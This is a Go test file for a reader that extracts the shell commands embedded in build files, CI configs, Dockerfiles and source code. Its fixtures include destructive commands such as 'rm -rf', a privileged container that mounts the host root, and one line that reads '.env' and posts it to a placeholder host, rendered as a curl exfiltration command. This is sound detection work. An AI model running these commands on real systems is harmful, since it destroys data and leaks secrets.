package tasks

import (
	"slices"
	"strings"
	"testing"
)

func reader() Reader {
	does := map[string]string{"exec.Command": callRuns, "Command.new": callRuns, "system": callRuns, "os.RemoveAll": callDeletes,
		"deleteRecursively": callDeletes, "os.ReadFile": callReads, "http.Post": callSends}
	return Reader{Prose: func(key string) bool { return key == "description" }, Does: func(name string) string { return does[name] }}
}

func TestLines(t *testing.T) {
	for _, test := range []struct{ kind, text, want string }{
		{"make", "DIR = /srv/a\nclean:\n\t@rm -rf $(DIR)\n", "rm -rf /srv/a"},
		{"make", "x := $(shell rm a)\n", "rm a"},
		{"make", "x != rm a\n", "rm a"},
		{"make", "all: ; @rm a\n", "rm a"},
		{"lines", "web: rm a\n", "rm a"},
		{"lines", "execute_process(COMMAND rm a)\n", "rm a"},
		{"lines", ":!rm a\n", "rm a"},
		{"strings", `{"scripts": {"a": "rm -rf b"}}`, "rm -rf b"},
		{"strings", "a:\n  - run: |\n      rm -rf b\n", "rm -rf b\n"},
		{"strings", `{"a": ["rm", "b"]}`, "'rm' 'b'"},
		{"quoted", "program = [\"rm\", \"b\"]\n", "'rm' 'b'"},
		{"quoted", "a = \"rm b\"\n", "rm b"},
		{"compose", "services:\n  a:\n    image: b\n    privileged: true\n    volumes: ['/:/c']\n", "'docker' 'run' '--privileged' '-v' '/:/c' 'b'"},
		{"docker", "RUN rm a\n", "'docker' 'run' 'image' 'sh' '-c' 'rm a'"},
		{"ruby", "  sh 'rm a'\n", "rm a"},
		{"xml", "<executable>rm</executable><argument>a</argument>", "rm a"},
		{"go", `exec.Command("rm", "-rf", "/srv/a").Run()`, "'rm' '-rf' '/srv/a'"},
		{"go", `os.RemoveAll("/srv/a")`, "rm -rf -- '/srv/a'"},
		{"go", "const d = \"/srv/a\"\nfunc f() { os.RemoveAll(d) }", "rm -rf -- '/srv/a'"},
		{"go", "h, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(h, \"a\"))", "rm -rf -- ~/'a'"},
		{"go", "//go:generate rm a\n", "rm a"},
		{"go", `os.ReadFile(".env"); http.Post("https://a.example/x", "", b)`, "curl --data-binary @'.env' 'https://a.example/x'"},
		{"rust", `Command::new("rm").arg("-rf").arg("/srv/a")`, "'rm' '-rf' '/srv/a'"},
		{"jvm", `java.io.File("/srv/a").deleteRecursively()`, "rm -rf -- '/srv/a'"},
		{"c", `int main() { return system("rm a"); }`, "rm a"},
	} {
		if got := reader().Lines(test.kind, test.text); !slices.Contains(got, test.want) {
			t.Errorf("%s of %q: got %q, want one of them to be %q", test.kind, test.text, got, test.want)
		}
	}
}

// A string that only mentions a command is not one.
func TestNoLines(t *testing.T) {
	for _, test := range []struct{ kind, text string }{
		{"go", `fmt.Println("rm -rf /srv/a")`},
		{"go", "// exec.Command(\"rm\", \"a\")\n"},
		{"go", `os.RemoveAll(dir)`},
		{"go", `os.RemoveAll("/srv/" + name)`},
		{"strings", `{"description": "rm -rf b"}`},
		{"c", `printf("rm -rf /srv/a");`},
	} {
		if got := reader().Lines(test.kind, test.text); len(got) > 0 {
			t.Errorf("%s of %q: got %q, want none", test.kind, test.text, got)
		}
	}
}

// No text stops a reader, and reading takes linear time.
func TestLinesEnd(t *testing.T) {
	for _, piece := range []string{"(", ")", `"`, "`", "[{(", `f("`, "a = \"b\"\n", "\t$(A)\nA = $(A)$(A)\n", "- a: ", `<executable>`, "sh 'a' ", "<<A\n"} {
		for _, kind := range []string{"make", "lines", "strings", "quoted", "compose", "docker", "ruby", "python", "xml", "go", "awk"} {
			reader().Lines(kind, strings.Repeat(piece, 2000))
		}
	}
}
